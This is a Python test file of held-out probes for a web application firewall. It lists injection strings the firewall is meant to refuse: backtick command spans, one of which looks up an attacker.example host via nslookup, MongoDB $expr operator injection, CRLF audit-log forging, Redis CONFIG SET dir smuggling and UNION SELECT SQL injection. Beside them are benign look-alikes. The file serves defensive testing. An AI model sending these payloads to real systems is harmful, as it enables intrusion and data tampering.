"""WAF, part 2z48: held-out probes, seventy-first file (README: the
seventy-ninth round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the bikerepair, skatepark, weddingvenue and treesurgeon
corpora showed when first replayed (at 06a5745) that the round fixed, an
attack the round refuses and a look-alike it passes:
- span-dns-probe: a backtick span that only looks a name up in the DNS
  (nslookup, dig) and ends the value after a word; the same span in a
  sentence that goes on.
- span-host-file: a backtick span that only reads a file under /etc and
  ends the value; the same span in a sentence.
- expr-constant: MongoDB's $expr comparing two numbers, a constant that
  holds; one comparing two fields.
- staff-record: after a typed line break (as a JSON body field), a dated
  record naming who acted with staff=; the key in a sentence.
- redis-config-dir: Redis' CONFIG SET dir on a line of its own after
  other commands (as a JSON body field); CONFIG GET named in a note.
- union-is-prose: UNION SELECT whose item is followed by IS and a word
  IS does not take, or IN without a list (a sentence: a false positive
  at 06a5745); IS NULL and IN with a list still refused.
Measured on 06a5745: the attacks of span-dns-probe, span-host-file,
expr-constant, staff-record and redis-config-dir passed in the JSON body
(the first three in the query too), union-is-prose's attacks were
refused and its look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "span-dns-probe": ["Fork 7 `nslookup probe.attacker.example`"],
    "span-host-file": ["Seat 12 `cat /etc/hostname`"],
    "expr-constant": ["{\"$expr\": {\"$gt\": [2, 1]}}"],
    "staff-record": ["Chain swap done\r\n[AUDIT] 2025-04-05T06:07:08Z staff=admin removed job=55"],
    "redis-config-dir": ["k\r\nSET v 1\r\nCONFIG SET dir /srv/www\r\n"],
    "union-is-prose": ["1 union select price is null--", "x union select id in (1,2) from t"],
}

BENIGN = {
    "span-dns-probe": ["Run `nslookup example.org` to check DNS, then retry"],
    "span-host-file": ["The `cat /etc/hostname` output says web-2."],
    "expr-constant": ["{\"$expr\": {\"$lt\": [\"$paid\", \"$owed\"]}}"],
    "staff-record": ["Chain swap done, staff=admin asked for a receipt"],
    "redis-config-dir": ["Redis docs: use CONFIG GET to read settings"],
    "union-is-prose": ["If the union select price is too high we drop it",
                       "union select panel in the hall"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r71_attack_refused_everywhere,
 test_heldout_r71_benign_passes) = heldout_probe_tests(
    "r71", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
